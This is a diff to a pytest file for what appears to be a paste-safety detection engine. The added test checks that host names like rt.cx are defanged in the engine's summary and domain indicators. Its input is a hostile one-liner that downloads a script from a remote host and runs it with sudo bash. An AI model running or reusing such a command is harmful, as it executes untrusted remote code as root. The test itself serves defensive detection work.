@@ -2,8 +2,10 @@
 
 import pytest
 
+from app.detection import Context, Engine, PasteTarget
 from app.detection.indicators import (
     defang,
+    defang_host,
     find_unc_paths,
     find_urls,
     is_argument_url,
@@ -145,3 +147,21 @@ def test_defang_brackets_bare_host_names() -> None:
 def test_an_address_is_a_setting_unless_its_variable_is_used(text: str, argument: bool) -> None:
     url = find_urls(text)[0]
     assert is_argument_url(text, url) is argument, (text, url.raw)
+
+
+def test_a_known_host_is_defanged_whatever_its_top_level_domain(engine: Engine) -> None:
+    """`defang` leaves word.word alone unless it knows the top-level domain (code stays
+    readable); a URL's or a page's host is a host, so the summary and the indicators bracket
+    it all the same (rt.cx, a short host under a country code defang does not list)."""
+    assert defang("rt.cx") == "rt.cx"
+    assert defang_host("rt.cx") == "rt[.]cx"
+    assert defang_host("dl.quarry.gg") == "dl[.]quarry[.]gg"
+    assert defang_host("") == ""
+    verdict = engine.analyze(
+        "wget -qO x https://rt.cx/x4 && sudo bash x",
+        Context(source="https://www.quarry.cx/install", target=PasteTarget.TERMINAL),
+    )
+    assert "rt.cx" not in verdict.summary and "quarry.cx" not in verdict.summary, verdict.summary
+    assert "rt[.]cx" in verdict.summary, verdict.summary
+    domains = [i.display for i in verdict.indicators if i.kind == "domain"]
+    assert domains == ["rt[.]cx"], domains
